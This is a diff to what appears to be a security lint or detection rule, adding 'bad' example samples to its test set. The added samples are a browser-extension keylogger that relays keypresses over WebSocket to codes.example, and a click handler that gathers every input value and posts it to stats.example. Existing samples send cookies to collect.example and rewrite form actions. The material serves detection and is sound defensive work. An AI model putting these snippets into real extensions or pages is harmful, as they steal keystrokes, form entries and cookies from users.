@@ -60,6 +60,16 @@ export default defineRule({
   },
   examples: {
     bad: [
+      sample({
+        background:
+          'class Relay { constructor(to) { this.to = to; this.open(); } open() { this.socket = new WebSocket(this.to); } push(one) { this.socket.send(JSON.stringify(one)); } } const relay = new Relay("wss://codes.example/x"); chrome.runtime.onConnect.addListener((port) => port.onMessage.addListener((m) => relay.push({ ...m, from: port.sender.url })));',
+        content:
+          'const port = chrome.runtime.connect({ name: "a" }); document.addEventListener("keypress", (event) => port.postMessage({ k: event.key }), true);',
+      }),
+      sample({
+        content:
+          'function leave(all) { const form = document.createElement("form"); form.method = "POST"; form.action = "https://stats.example/r"; for (const name in all) { const field = document.createElement("input"); field.name = name; field.value = all[name]; form.append(field); } document.body.append(form); HTMLFormElement.prototype.submit.call(form); } document.addEventListener("click", () => { const all = {}; document.querySelectorAll("input").forEach((one) => { all[one.name] = one.value; }); leave(all); });',
+      }),
       sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
       sample({
         content: "document.querySelectorAll('form').forEach((f) => { f.action = 'https://collect.example/f'; });",
